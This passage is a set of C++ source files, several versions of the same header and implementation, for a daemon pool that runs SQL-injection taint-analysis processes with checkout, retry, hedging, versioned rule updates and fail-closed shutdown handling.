  if (!ver.ok()) return ver.status();
  update.version = ver.value();
  auto list = DecodeStringList(in);
  if (!list.ok()) return list.status();
  update.fragments = std::move(list).value();
  return update;
}

std::string EncodeU64(std::uint64_t v) {
  std::string out;
  AppendU64(out, v);
  return out;
}

StatusOr<std::uint64_t> DecodeU64(std::string_view in) {
  auto v = TakeU64(in);
  if (!v.ok()) return v.status();
  if (!in.empty()) return Status::ParseError("trailing bytes after u64");
  return v;
}

}  // namespace joza::ipc
