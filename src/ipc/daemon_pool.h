// Pool of persistent PTI daemons for the concurrent gateway.
//
// One DaemonClient serializes every analysis through a single pipe pair —
// fine for the paper's single-threaded Apache module, a bottleneck for a
// worker pool. DaemonPool multiplexes PTI analysis over N persistent daemon
// processes with checkout/return semantics: a worker checks a daemon out,
// round-trips its query, and returns it; when all daemons are busy and the
// pool is at its cap, callers block until one frees up.
//
// Failure policy: a daemon that dies or hangs mid-flight is SIGKILLed and
// discarded, and the query retried once on a fresh daemon within the
// remaining deadline budget; if that also fails the pool reports an error
// Status and the engine's degraded-mode policy decides (fail closed by
// default — an unreachable analyzer never waves queries through). Every
// round trip is bounded by min(caller deadline, per_call_timeout), so a
// hung daemon costs one budget, not a pinned worker. Idle daemons beyond
// `min_size` are reaped after `idle_timeout` so a traffic spike does not
// pin processes forever.
//
// Thread safety: every method may be called from any number of threads,
// including Shutdown/destruction racing in-flight Analyze calls: Shutdown
// waits for in-flight calls to drain, and calls that arrive after it
// began get Unavailable.
#pragma once

#include <chrono>
#include <condition_variable>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "core/joza.h"
#include "ipc/daemon.h"
#include "ipc/framing.h"
#include "phpsrc/fragments.h"
#include "pti/pti.h"
#include "util/deadline.h"
#include "util/status.h"

namespace joza::ipc {

class DaemonPool {
 public:
  struct Options {
    std::size_t min_size = 1;   // survivors of idle reaping
    std::size_t max_size = 4;   // hard cap on live daemons
    std::chrono::milliseconds idle_timeout{30000};
    // Upper bound on each checkout + round trip, combined with the
    // caller's deadline (whichever is earlier). A miss means the daemon is
    // treated as dead: killed, replaced, the call retried on the budget
    // that remains. 0 disables the per-call bound (caller deadline only).
    std::chrono::milliseconds per_call_timeout{2000};
  };

  struct PoolStats {
    std::size_t spawned = 0;    // daemons forked over the pool's lifetime
    std::size_t replaced = 0;   // dead/hung daemons discarded mid-flight
    std::size_t reaped = 0;     // idle daemons retired
    std::size_t analyzed = 0;   // successful round trips
    std::size_t failures = 0;   // round trips that failed even after retry
    std::size_t waits = 0;      // checkouts that had to block
    std::size_t deadline_misses = 0;  // round trips abandoned on deadline
    // Daemons whose handshake or update Ack reported a ruleset version
    // other than the pool's target — stale replicas, discarded on sight.
    std::size_t version_mismatches = 0;
    // The pool's current target ruleset version (== fragment texts added).
    std::uint64_t target_version = 0;
  };

  explicit DaemonPool(php::FragmentSet fragments)
      : DaemonPool(std::move(fragments), Options{}) {}
  DaemonPool(php::FragmentSet fragments, Options options,
             pti::PtiConfig config = {});
  ~DaemonPool();

  DaemonPool(const DaemonPool&) = delete;
  DaemonPool& operator=(const DaemonPool&) = delete;

  // Round-trips one query through any pooled daemon. Spawns up to max_size
  // daemons on demand; blocks when all are checked out (bounded by the
  // deadline). Each attempt is additionally bounded by per_call_timeout.
  StatusOr<PtiVerdictWire> Analyze(std::string_view query,
                                   util::Deadline deadline = util::Deadline());

  Status Ping(util::Deadline deadline = util::Deadline());

  // Records fragments for every daemon and advances the pool's target
  // ruleset version by one per text. Running daemons receive them lazily
  // at their next checkout (the update frame names the exact version they
  // must land on); future spawns start with them.
  Status AddFragments(const std::vector<std::string>& fragment_texts);

  // The version every daemon must converge on: the update-log position
  // (one per fragment text ever added).
  std::uint64_t target_version() const;

  // Ruleset versions of the currently idle daemons (convergence tests).
  // Idle daemons may lag the target — they converge at next checkout.
  std::vector<std::uint64_t> idle_versions() const;

  // Thread-safe Joza PTI backend over the pool. RPC failures surface as
  // error Status; the engine's breaker/degraded policy decides.
  core::PtiFn AsPtiBackend();

  // Retires daemons idle for longer than idle_timeout, down to min_size.
  // Also runs opportunistically on every return.
  void ReapIdle();

  // Shuts every daemon down and rejects further work. Safe to race with
  // in-flight Analyze/Ping calls: it blocks until they drain (their bounded
  // deadlines guarantee that terminates); late arrivals get Unavailable.
  void Shutdown();

  PoolStats stats() const;
  std::size_t live() const;   // spawned and not yet retired (busy + idle)
  std::size_t idle() const;

  // Pids of the currently idle daemons (diagnostics / kill-tests).
  std::vector<int> child_pids() const;

 private:
  struct Entry {
    std::unique_ptr<DaemonClient> client;
    std::chrono::steady_clock::time_point last_used;
    // Prefix of added_texts_ shipped to this daemon — identically its
    // ruleset version (one version per fragment text).
    std::size_t fragments_applied = 0;
  };

  // Pops an idle daemon or spawns one; blocks at the cap until `deadline`.
  // Applies pending fragment updates before handing the entry out.
  StatusOr<Entry> Checkout(util::Deadline deadline);
  void Return(Entry entry);
  // Dead or hung daemon: SIGKILL (no handshake — a hung daemon would stall
  // the graceful shutdown), reap, free its slot.
  void Discard(Entry entry);

  // RAII in-flight marker: constructed after the shutdown check admits the
  // call, destroyed as the call's very last touch of pool state. Shutdown
  // waits for in_flight_ == 0, so the pool cannot be destroyed under a
  // racing call's feet.
  struct InFlight {
    DaemonPool* pool;
    explicit InFlight(DaemonPool* p) : pool(p) {}
    InFlight(const InFlight&) = delete;
    InFlight& operator=(const InFlight&) = delete;
    ~InFlight() {
      std::lock_guard<std::mutex> lock(pool->mu_);
      --pool->in_flight_;
      pool->cv_.notify_all();
    }
  };

  php::FragmentSet fragments_;   // grows with AddFragments; seeds spawns
  pti::PtiConfig config_;
  Options options_;

  mutable std::mutex mu_;
  std::condition_variable cv_;
  std::vector<Entry> idle_;      // LIFO: the hottest daemon goes out first
  std::size_t live_ = 0;
  std::size_t in_flight_ = 0;    // Analyze/Ping calls between entry and exit
  bool shutdown_ = false;
  std::vector<std::string> added_texts_;  // broadcast log for late joiners
  PoolStats stats_;
};

}  // namespace joza::ipc
