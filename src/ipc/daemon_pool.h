// Pool of persistent PTI daemons for the concurrent gateway.
//
// One DaemonClient serializes every analysis through a single pipe pair —
// fine for the paper's single-threaded Apache module, a bottleneck for a
// worker pool. DaemonPool multiplexes PTI analysis over N persistent daemon
// processes with checkout/return semantics: a worker checks a daemon out,
// round-trips its query, and returns it; when all daemons are busy and the
// pool is at its cap, callers block until one frees up.
//
// Failure policy: a daemon that dies or hangs mid-flight is SIGKILLed and
// discarded, and the query retried on a fresh daemon within the remaining
// deadline budget — but both respawns and retries are governed:
//
//   * Respawns go through a DaemonSupervisor: exponential backoff after
//     consecutive spawn failures, a restart-budget token bucket, and flap
//     detection that quarantines a crash-looping shard (Analyze fails fast
//     into the engine's degraded mode instead of fork-storming).
//   * Retries and hedges spend from a RetryBudget that only successes
//     replenish, so an outage degrades to single attempts instead of
//     doubling load on a dying backend.
//   * Optionally, Analyze hedges: once the primary attempt has been in
//     flight longer than the hedge delay (fixed, or derived from the p99
//     of recent successes), a second attempt races it on another daemon
//     and the first success wins.
//
// If every attempt fails the pool reports an error Status and the engine's
// degraded-mode policy decides (fail closed by default — an unreachable
// analyzer never waves queries through). Every round trip is bounded by
// min(caller deadline, per_call_timeout), so a hung daemon costs one
// budget, not a pinned worker. Idle daemons beyond `min_size` are reaped
// after `idle_timeout` so a traffic spike does not pin processes forever.
//
// Thread safety: every method may be called from any number of threads,
// including Shutdown/destruction racing in-flight Analyze calls: Shutdown
// waits for in-flight calls (and any hedge attempts still racing) to
// drain, and calls that arrive after it began get Unavailable.
#pragma once

#include <chrono>
#include <condition_variable>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "core/joza.h"
#include "ipc/daemon.h"
#include "ipc/framing.h"
#include "phpsrc/fragments.h"
#include "pti/pti.h"
#include "resilience/hedge.h"
#include "resilience/supervisor.h"
#include "util/deadline.h"
#include "util/status.h"

namespace joza::ipc {

class DaemonPool {
 public:
  struct Options {
    std::size_t min_size = 1;   // survivors of idle reaping
    std::size_t max_size = 4;   // hard cap on live daemons
    std::chrono::milliseconds idle_timeout{30000};
    // Upper bound on each checkout + round trip, combined with the
    // caller's deadline (whichever is earlier). A miss means the daemon is
    // treated as dead: killed, replaced, the call retried on the budget
    // that remains. 0 disables the per-call bound (caller deadline only).
    std::chrono::milliseconds per_call_timeout{2000};

    // Respawn policy (restart budget, backoff, flap quarantine).
    resilience::SupervisorOptions supervisor;
    // Retry/hedge amplification guard.
    resilience::RetryBudgetOptions retry_budget;

    // Hedging: 0 disables. A positive delay launches a racing second
    // attempt once the primary has been in flight that long.
    std::chrono::milliseconds hedge_delay{0};
    // Derive the hedge delay from the p99 of recent successful round
    // trips instead (hedge_delay then serves as the fallback until enough
    // samples accumulate; if it is 0 the fallback is per_call_timeout/2).
    bool hedge_from_p99 = false;

    // Ruleset version the seed fragment set corresponds to. A warm start
    // from a snapshot passes the recovered version here so every daemon,
    // handshake and verdict continues the pre-crash version line instead
    // of restarting at zero.
    std::uint64_t base_version = 0;
  };

  struct PoolStats {
    std::size_t spawned = 0;    // daemons forked over the pool's lifetime
    std::size_t replaced = 0;   // dead/hung daemons discarded mid-flight
    std::size_t reaped = 0;     // idle daemons retired
    std::size_t analyzed = 0;   // successful round trips
    std::size_t failures = 0;   // round trips that failed even after retry
    std::size_t waits = 0;      // checkouts that had to block
    std::size_t deadline_misses = 0;  // round trips abandoned on deadline
    // Daemons whose handshake or update Ack reported a ruleset version
    // other than the pool's target — stale replicas, discarded on sight.
    std::size_t version_mismatches = 0;
    std::size_t hedges_launched = 0;  // racing second attempts started
    std::size_t hedges_won = 0;       // races the hedge attempt won
    std::size_t retries_denied = 0;   // retries/hedges the budget refused
    // The pool's current target ruleset version
    // (base_version + fragment texts added).
    std::uint64_t target_version = 0;
    // Respawn-policy counters (restarts, quarantines, ...), snapshotted
    // from the supervisor.
    resilience::SupervisorStats supervisor;
  };

  explicit DaemonPool(php::FragmentSet fragments)
      : DaemonPool(std::move(fragments), Options{}) {}
  DaemonPool(php::FragmentSet fragments, Options options,
             pti::PtiConfig config = {});
  ~DaemonPool();

  DaemonPool(const DaemonPool&) = delete;
  DaemonPool& operator=(const DaemonPool&) = delete;

  // Round-trips one query through any pooled daemon. Spawns up to max_size
  // daemons on demand (supervisor permitting); blocks when all are checked
  // out (bounded by the deadline). Each attempt is additionally bounded by
  // per_call_timeout. With hedging enabled, a straggling primary attempt
  // races a budgeted second attempt and the first success wins.
  StatusOr<PtiVerdictWire> Analyze(std::string_view query,
                                   util::Deadline deadline = util::Deadline());

  Status Ping(util::Deadline deadline = util::Deadline());

  // Records fragments for every daemon and advances the pool's target
  // ruleset version by one per text. Running daemons receive them lazily
  // at their next checkout (the update frame names the exact version they
  // must land on); future spawns start with them.
  Status AddFragments(const std::vector<std::string>& fragment_texts);

  // The version every daemon must converge on: base_version plus the
  // update-log position (one per fragment text ever added).
  std::uint64_t target_version() const;

  // The fragment set every future spawn is seeded with (base fragments
  // plus everything added) — what a crash-durable snapshot must persist.
  php::FragmentSet fragment_snapshot() const;

  // Ruleset versions of the currently idle daemons (convergence tests).
  // Idle daemons may lag the target — they converge at next checkout.
  std::vector<std::uint64_t> idle_versions() const;

  // Thread-safe Joza PTI backend over the pool. RPC failures surface as
  // error Status; the engine's breaker/degraded policy decides.
  core::PtiFn AsPtiBackend();

  // Retires daemons idle for longer than idle_timeout, down to min_size.
  // Also runs opportunistically on every return.
  void ReapIdle();

  // Shuts every daemon down and rejects further work. Safe to race with
  // in-flight Analyze/Ping calls: it blocks until they drain (their bounded
  // deadlines guarantee that terminates); late arrivals get Unavailable.
  void Shutdown();

  PoolStats stats() const;
  std::size_t live() const;   // spawned and not yet retired (busy + idle)
  std::size_t idle() const;

  // Supervisor view: true while the shard is quarantined (Analyze fails
  // fast; the engine serves NTI-only or fail-closed per its config).
  bool quarantined() const { return supervisor_.quarantined(); }
  resilience::SupervisorState supervisor_state() const {
    return supervisor_.state();
  }

  // Pids of the currently idle daemons (diagnostics / kill-tests).
  std::vector<int> child_pids() const;

 private:
  struct Entry {
    std::unique_ptr<DaemonClient> client;
    std::chrono::steady_clock::time_point last_used;
    // Prefix of added_texts_ shipped to this daemon; its ruleset version
    // is base_version + fragments_applied.
    std::size_t fragments_applied = 0;
  };

  // Pops an idle daemon or spawns one (supervisor permitting); blocks at
  // the cap until `deadline`. Applies pending fragment updates before
  // handing the entry out.
  StatusOr<Entry> Checkout(util::Deadline deadline);
  void Return(Entry entry);
  // Dead or hung daemon: SIGKILL (no handshake — a hung daemon would stall
  // the graceful shutdown), reap, free its slot. Does not talk to the
  // supervisor; callers report the outcome that fits (crash vs spawn
  // failure).
  void Discard(Entry entry);

  // One complete attempt: checkout + round trip + return/discard, with
  // supervisor/latency accounting. `hedged` marks the racing secondary.
  StatusOr<PtiVerdictWire> AttemptOnce(std::string_view query,
                                       util::Deadline deadline, bool hedged);
  // Sequential attempt-with-retry (hedging disabled or not armed).
  StatusOr<PtiVerdictWire> AnalyzeSequential(std::string_view query,
                                             util::Deadline deadline);
  // Primary in a helper thread, budgeted hedge after HedgeDelay().
  StatusOr<PtiVerdictWire> AnalyzeHedged(std::string_view query,
                                         util::Deadline deadline);
  bool hedging_enabled() const {
    return options_.hedge_delay.count() > 0 || options_.hedge_from_p99;
  }
  std::chrono::milliseconds HedgeDelay() const;

  // RAII in-flight marker: constructed after the shutdown check admits the
  // call, destroyed as the call's very last touch of pool state. Shutdown
  // waits for in_flight_ == 0, so the pool cannot be destroyed under a
  // racing call's (or hedge thread's) feet.
  struct InFlight {
    DaemonPool* pool;
    explicit InFlight(DaemonPool* p) : pool(p) {}
    InFlight(const InFlight&) = delete;
    InFlight& operator=(const InFlight&) = delete;
    ~InFlight() {
      std::lock_guard<std::mutex> lock(pool->mu_);
      --pool->in_flight_;
      pool->cv_.notify_all();
    }
  };

  php::FragmentSet fragments_;   // grows with AddFragments; seeds spawns
  pti::PtiConfig config_;
  Options options_;

  resilience::DaemonSupervisor supervisor_;
  resilience::RetryBudget retry_budget_;
  resilience::LatencyTracker latency_;  // successful round-trip durations

  mutable std::mutex mu_;
  std::condition_variable cv_;
  std::vector<Entry> idle_;      // LIFO: the hottest daemon goes out first
  std::size_t live_ = 0;
  std::size_t in_flight_ = 0;    // Analyze/Ping/hedge work between entry/exit
  bool shutdown_ = false;
  std::vector<std::string> added_texts_;  // broadcast log for late joiners
  PoolStats stats_;
};

}  // namespace joza::ipc
