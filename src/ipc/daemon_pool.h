// Pool of persistent PTI daemons for the concurrent gateway.
//
// One DaemonClient serializes every analysis through a single pipe pair —
// fine for the paper's single-threaded Apache module, a bottleneck for a
// worker pool. DaemonPool multiplexes PTI analysis over N persistent daemon
// processes with checkout/return semantics: a worker checks a daemon out,
// round-trips its query, and returns it; when all daemons are busy and the
// pool is at its cap, callers block until one frees up.
//
// Failure policy is fail-closed, matching DaemonClient::AsPtiBackend: a
// daemon that dies mid-flight is discarded (reaped via waitpid) and the
// query retried once on a fresh daemon; if that also fails the verdict is
// "attack" — an unreachable analyzer never waves queries through. Idle
// daemons beyond `min_size` are reaped after `idle_timeout` so a traffic
// spike does not pin processes forever.
//
// Thread safety: Analyze/AddFragments/stats/ReapIdle may be called from any
// number of threads. Shutdown (and destruction) must not race in-flight
// Analyze calls on other threads — stop traffic first; late callers get
// Unavailable, which the backend adapter fails closed.
#pragma once

#include <chrono>
#include <condition_variable>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "core/joza.h"
#include "ipc/daemon.h"
#include "ipc/framing.h"
#include "phpsrc/fragments.h"
#include "pti/pti.h"
#include "util/status.h"

namespace joza::ipc {

class DaemonPool {
 public:
  struct Options {
    std::size_t min_size = 1;   // survivors of idle reaping
    std::size_t max_size = 4;   // hard cap on live daemons
    std::chrono::milliseconds idle_timeout{30000};
  };

  struct PoolStats {
    std::size_t spawned = 0;    // daemons forked over the pool's lifetime
    std::size_t replaced = 0;   // dead daemons discarded mid-flight
    std::size_t reaped = 0;     // idle daemons retired
    std::size_t analyzed = 0;   // successful round trips
    std::size_t failures = 0;   // round trips that failed even after retry
    std::size_t waits = 0;      // checkouts that had to block
  };

  explicit DaemonPool(php::FragmentSet fragments)
      : DaemonPool(std::move(fragments), Options{}) {}
  DaemonPool(php::FragmentSet fragments, Options options,
             pti::PtiConfig config = {});
  ~DaemonPool();

  DaemonPool(const DaemonPool&) = delete;
  DaemonPool& operator=(const DaemonPool&) = delete;

  // Round-trips one query through any pooled daemon. Spawns up to max_size
  // daemons on demand; blocks when all are checked out.
  StatusOr<PtiVerdictWire> Analyze(std::string_view query);

  Status Ping();

  // Records fragments for every daemon. Running daemons receive them lazily
  // at their next checkout; future spawns start with them.
  Status AddFragments(const std::vector<std::string>& fragment_texts);

  // Thread-safe, fail-closed Joza PTI backend over the pool.
  core::PtiFn AsPtiBackend();

  // Retires daemons idle for longer than idle_timeout, down to min_size.
  // Also runs opportunistically on every return.
  void ReapIdle();

  // Shuts every daemon down and rejects further work.
  void Shutdown();

  PoolStats stats() const;
  std::size_t live() const;   // spawned and not yet retired (busy + idle)
  std::size_t idle() const;

  // Pids of the currently idle daemons (diagnostics / kill-tests).
  std::vector<int> child_pids() const;

 private:
  struct Entry {
    std::unique_ptr<DaemonClient> client;
    std::chrono::steady_clock::time_point last_used;
    std::size_t fragments_applied = 0;  // prefix of added_texts_ shipped
  };

  // Pops an idle daemon or spawns one; blocks at the cap. Applies pending
  // fragment updates before handing the entry out.
  StatusOr<Entry> Checkout();
  void Return(Entry entry);
  void Discard(Entry entry);  // dead daemon: destroy and free its slot

  php::FragmentSet fragments_;   // grows with AddFragments; seeds spawns
  pti::PtiConfig config_;
  Options options_;

  mutable std::mutex mu_;
  std::condition_variable cv_;
  std::vector<Entry> idle_;      // LIFO: the hottest daemon goes out first
  std::size_t live_ = 0;
  bool shutdown_ = false;
  std::vector<std::string> added_texts_;  // broadcast log for late joiners
  PoolStats stats_;
};

}  // namespace joza::ipc
