#include "ipc/daemon_pool.h"

#include <algorithm>
#include <utility>

namespace joza::ipc {

DaemonPool::DaemonPool(php::FragmentSet fragments, Options options,
                       pti::PtiConfig config)
    : fragments_(std::move(fragments)), config_(config), options_(options) {
  if (options_.max_size == 0) options_.max_size = 1;
  options_.min_size = std::min(options_.min_size, options_.max_size);
}

DaemonPool::~DaemonPool() { Shutdown(); }

StatusOr<DaemonPool::Entry> DaemonPool::Checkout(util::Deadline deadline) {
  std::unique_lock<std::mutex> lock(mu_);
  while (idle_.empty() && live_ >= options_.max_size && !shutdown_) {
    ++stats_.waits;
    if (!deadline.finite()) {
      cv_.wait(lock);
    } else if (cv_.wait_until(lock, deadline.point()) ==
               std::cv_status::timeout) {
      // Re-check once: a Return may have raced the timeout.
      if (idle_.empty() && live_ >= options_.max_size && !shutdown_) {
        return Status::DeadlineExceeded("daemon checkout deadline");
      }
    }
  }
  if (shutdown_) return Status::Unavailable("daemon pool is shut down");

  Entry entry;
  if (!idle_.empty()) {
    entry = std::move(idle_.back());
    idle_.pop_back();
  } else {
    ++live_;
    ++stats_.spawned;
    // Copy the fragment set under the lock; fork and handshake outside it
    // so a slow spawn never stalls the whole pool.
    php::FragmentSet fragments = fragments_;
    entry.fragments_applied = added_texts_.size();
    lock.unlock();
    entry.client = std::make_unique<DaemonClient>(
        DaemonClient::Mode::kPersistent, std::move(fragments), config_,
        /*initial_version=*/entry.fragments_applied);
    // Version handshake: the fresh daemon must report the version it was
    // seeded with; anything else is a stale or broken replica.
    auto reported = entry.client->Handshake(deadline);
    if (!reported.ok()) {
      Discard(std::move(entry));
      return reported.status();
    }
    if (reported.value() != entry.fragments_applied) {
      {
        std::lock_guard<std::mutex> relock(mu_);
        ++stats_.version_mismatches;
      }
      Discard(std::move(entry));
      return Status::Internal("stale daemon: version handshake mismatch");
    }
    return entry;
  }

  // Ship fragment updates this daemon has not seen yet; the update names
  // the exact version the daemon must land on and the Ack echoes it back.
  std::vector<std::string> pending(
      added_texts_.begin() +
          static_cast<std::ptrdiff_t>(entry.fragments_applied),
      added_texts_.end());
  const std::uint64_t target = added_texts_.size();
  entry.fragments_applied = added_texts_.size();
  lock.unlock();
  if (!pending.empty()) {
    auto acked = entry.client->AddFragmentsAt(pending, target, deadline);
    if (!acked.ok()) {
      Discard(std::move(entry));
      return acked.status();
    }
    if (acked.value() != target) {
      {
        std::lock_guard<std::mutex> relock(mu_);
        ++stats_.version_mismatches;
      }
      Discard(std::move(entry));
      return Status::Internal("stale daemon: update ack version mismatch");
    }
  }
  return entry;
}

void DaemonPool::Return(Entry entry) {
  entry.last_used = std::chrono::steady_clock::now();
  std::unique_lock<std::mutex> lock(mu_);
  if (shutdown_) {
    --live_;
    lock.unlock();
    cv_.notify_all();
    return;  // entry destructor shuts the daemon down
  }
  idle_.push_back(std::move(entry));
  lock.unlock();
  cv_.notify_one();
  ReapIdle();
}

void DaemonPool::Discard(Entry entry) {
  // SIGKILL, no handshake: a hung daemon would stall the graceful shutdown
  // for its full 500 ms bound — and a dead one cannot answer anyway.
  if (entry.client) entry.client->Kill();
  {
    std::lock_guard<std::mutex> lock(mu_);
    --live_;
    ++stats_.replaced;
  }
  cv_.notify_all();  // blocked checkouts (or Shutdown) may proceed
}

StatusOr<PtiVerdictWire> DaemonPool::Analyze(std::string_view query,
                                             util::Deadline deadline) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (shutdown_) return Status::Unavailable("daemon pool is shut down");
    ++in_flight_;
  }
  InFlight flight(this);
  Status last = Status::Unavailable("PTI daemon unreachable after retry");
  for (int attempt = 0; attempt < 2; ++attempt) {
    // Each attempt gets at most per_call_timeout; the retry runs on
    // whatever remains of the caller's budget.
    util::Deadline attempt_deadline = deadline;
    if (options_.per_call_timeout.count() > 0) {
      attempt_deadline = util::Deadline::EarlierOf(
          deadline, util::Deadline::After(options_.per_call_timeout));
    }
    if (attempt_deadline.expired()) {
      last = Status::DeadlineExceeded("PTI deadline budget exhausted");
      break;
    }
    auto entry = Checkout(attempt_deadline);
    if (!entry.ok()) {
      // A stale replica was detected and discarded during checkout; the
      // replacement spawned by the retry starts at the target version.
      const bool stale =
          entry.status().code() == StatusCode::kInternal &&
          entry.status().message().find("stale daemon") != std::string::npos;
      if (stale && attempt == 0) {
        last = entry.status();
        continue;
      }
      std::lock_guard<std::mutex> lock(mu_);
      ++stats_.failures;
      if (entry.status().code() == StatusCode::kDeadlineExceeded) {
        ++stats_.deadline_misses;
      }
      return entry.status();
    }
    auto wire = entry->client->Analyze(query, attempt_deadline);
    if (wire.ok()) {
      {
        std::lock_guard<std::mutex> lock(mu_);
        ++stats_.analyzed;
      }
      Return(std::move(entry).value());
      return wire;
    }
    last = wire.status();
    if (last.code() == StatusCode::kDeadlineExceeded) {
      std::lock_guard<std::mutex> lock(mu_);
      ++stats_.deadline_misses;
    }
    // The daemon died or hung mid-flight: kill it, replace it, and retry
    // the query once on a fresh daemon.
    Discard(std::move(entry).value());
  }
  std::lock_guard<std::mutex> lock(mu_);
  ++stats_.failures;
  return last;
}

Status DaemonPool::Ping(util::Deadline deadline) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (shutdown_) return Status::Unavailable("daemon pool is shut down");
    ++in_flight_;
  }
  InFlight flight(this);
  auto entry = Checkout(deadline);
  if (!entry.ok()) return entry.status();
  Status st = entry->client->Ping(deadline);
  if (st.ok()) {
    Return(std::move(entry).value());
  } else {
    Discard(std::move(entry).value());
  }
  return st;
}

Status DaemonPool::AddFragments(
    const std::vector<std::string>& fragment_texts) {
  std::lock_guard<std::mutex> lock(mu_);
  if (shutdown_) return Status::Unavailable("daemon pool is shut down");
  for (const std::string& f : fragment_texts) {
    fragments_.AddRaw(f);
    added_texts_.push_back(f);
  }
  // Idle daemons pick the delta up at their next checkout (lazy broadcast);
  // nothing round-trips while the lock is held.
  return Status::Ok();
}

core::PtiFn DaemonPool::AsPtiBackend() {
  return [this](std::string_view query, const std::vector<sql::Token>& tokens,
                util::Deadline deadline) -> StatusOr<pti::PtiResult> {
    auto wire = Analyze(query, deadline);
    if (!wire.ok()) {
      // No verdict: surface the error — the engine's breaker/degraded
      // policy decides (fail closed by default).
      return wire.status();
    }
    pti::PtiResult result;
    result.attack_detected = wire->attack_detected;
    result.hits = wire->hits;
    result.fragments_scanned = wire->fragments_scanned;
    result.ruleset_version = wire->ruleset_version;
    if (wire->attack_detected) {
      for (const sql::Token& t : tokens) {
        for (const std::string& text : wire->untrusted_texts) {
          if (t.IsCritical() && t.text == text) {
            result.untrusted_critical_tokens.push_back(t);
            break;
          }
        }
      }
    }
    return result;
  };
}

void DaemonPool::ReapIdle() {
  std::vector<Entry> victims;
  {
    std::lock_guard<std::mutex> lock(mu_);
    const auto now = std::chrono::steady_clock::now();
    // Oldest entries sit at the front of the LIFO stack.
    while (live_ > options_.min_size && !idle_.empty() &&
           now - idle_.front().last_used > options_.idle_timeout) {
      victims.push_back(std::move(idle_.front()));
      idle_.erase(idle_.begin());
      --live_;
      ++stats_.reaped;
    }
  }
  victims.clear();  // daemon shutdowns happen outside the lock
}

void DaemonPool::Shutdown() {
  std::vector<Entry> victims;
  {
    std::unique_lock<std::mutex> lock(mu_);
    if (shutdown_ && live_ == 0 && in_flight_ == 0) return;
    shutdown_ = true;
    victims = std::move(idle_);
    idle_.clear();
    live_ -= victims.size();
    cv_.notify_all();
    // Checked-out daemons drain through Return/Discard (which decrement
    // live_ under shutdown_) and the calls themselves drain through the
    // InFlight guards; their bounded deadlines guarantee progress. Waiting
    // for both means no racing thread can still touch pool state after
    // Shutdown returns, so destruction is safe.
    cv_.wait(lock, [&] { return live_ == 0 && in_flight_ == 0; });
  }
  victims.clear();
}

DaemonPool::PoolStats DaemonPool::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  PoolStats out = stats_;
  out.target_version = added_texts_.size();
  return out;
}

std::uint64_t DaemonPool::target_version() const {
  std::lock_guard<std::mutex> lock(mu_);
  return added_texts_.size();
}

std::vector<std::uint64_t> DaemonPool::idle_versions() const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<std::uint64_t> versions;
  versions.reserve(idle_.size());
  for (const Entry& e : idle_) versions.push_back(e.fragments_applied);
  return versions;
}

std::size_t DaemonPool::live() const {
  std::lock_guard<std::mutex> lock(mu_);
  return live_;
}

std::size_t DaemonPool::idle() const {
  std::lock_guard<std::mutex> lock(mu_);
  return idle_.size();
}

std::vector<int> DaemonPool::child_pids() const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<int> pids;
  pids.reserve(idle_.size());
  for (const Entry& e : idle_) pids.push_back(e.client->child_pid());
  return pids;
}

}  // namespace joza::ipc
