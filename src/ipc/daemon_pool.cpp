#include "ipc/daemon_pool.h"

#include <algorithm>
#include <optional>
#include <thread>
#include <utility>

#include "resilience/injector.h"

namespace joza::ipc {

DaemonPool::DaemonPool(php::FragmentSet fragments, Options options,
                       pti::PtiConfig config)
    : fragments_(std::move(fragments)),
      config_(config),
      options_(options),
      supervisor_(options.supervisor),
      retry_budget_(options.retry_budget) {
  if (options_.max_size == 0) options_.max_size = 1;
  options_.min_size = std::min(options_.min_size, options_.max_size);
}

DaemonPool::~DaemonPool() { Shutdown(); }

StatusOr<DaemonPool::Entry> DaemonPool::Checkout(util::Deadline deadline) {
  std::unique_lock<std::mutex> lock(mu_);
  bool counted_wait = false;
  while (idle_.empty()) {
    if (shutdown_) return Status::Unavailable("daemon pool is shut down");
    if (live_ < options_.max_size) {
      const Status admit = supervisor_.AdmitSpawn();
      if (admit.ok()) {
        ++live_;
        ++stats_.spawned;
        // Copy the fragment set under the lock; fork and handshake outside
        // it so a slow spawn never stalls the whole pool.
        php::FragmentSet fragments = fragments_;
        Entry entry;
        entry.fragments_applied = added_texts_.size();
        const std::uint64_t seed_version =
            options_.base_version + entry.fragments_applied;
        lock.unlock();
        entry.client = std::make_unique<DaemonClient>(
            DaemonClient::Mode::kPersistent, std::move(fragments), config_,
            /*initial_version=*/seed_version);
        // Version handshake: the fresh daemon must report the version it
        // was seeded with; anything else is a stale or broken replica.
        auto reported = entry.client->Handshake(deadline);
        if (!reported.ok()) {
          supervisor_.RecordSpawnFailure();
          Discard(std::move(entry));
          return reported.status();
        }
        if (reported.value() != seed_version) {
          {
            std::lock_guard<std::mutex> relock(mu_);
            ++stats_.version_mismatches;
          }
          supervisor_.RecordSpawnFailure();
          Discard(std::move(entry));
          return Status::Internal("stale daemon: version handshake mismatch");
        }
        supervisor_.RecordSpawnSuccess();
        return entry;
      }
      if (supervisor_.quarantined()) {
        // Known-bad shard: fail fast so the engine serves its degraded
        // mode (NTI-only / fail-closed) instead of queueing doomed work.
        return Status::Unavailable(admit.message());
      }
      // Backoff or restart budget: a respawn is not allowed *yet*. Fall
      // through and wait — either a busy daemon returns or the backoff
      // window lapses (hence the bounded poll below, not a pure cv wait).
    }
    if (deadline.finite() && deadline.expired()) {
      return Status::DeadlineExceeded("daemon checkout deadline");
    }
    if (!counted_wait) {
      ++stats_.waits;
      counted_wait = true;
    }
    const auto poll =
        std::chrono::steady_clock::now() + std::chrono::milliseconds(50);
    cv_.wait_until(lock,
                   deadline.finite() ? std::min(deadline.point(), poll) : poll);
  }

  Entry entry = std::move(idle_.back());
  idle_.pop_back();

  // Ship fragment updates this daemon has not seen yet; the update names
  // the exact version the daemon must land on and the Ack echoes it back.
  std::vector<std::string> pending(
      added_texts_.begin() +
          static_cast<std::ptrdiff_t>(entry.fragments_applied),
      added_texts_.end());
  const std::uint64_t target = options_.base_version + added_texts_.size();
  entry.fragments_applied = added_texts_.size();
  lock.unlock();
  if (!pending.empty()) {
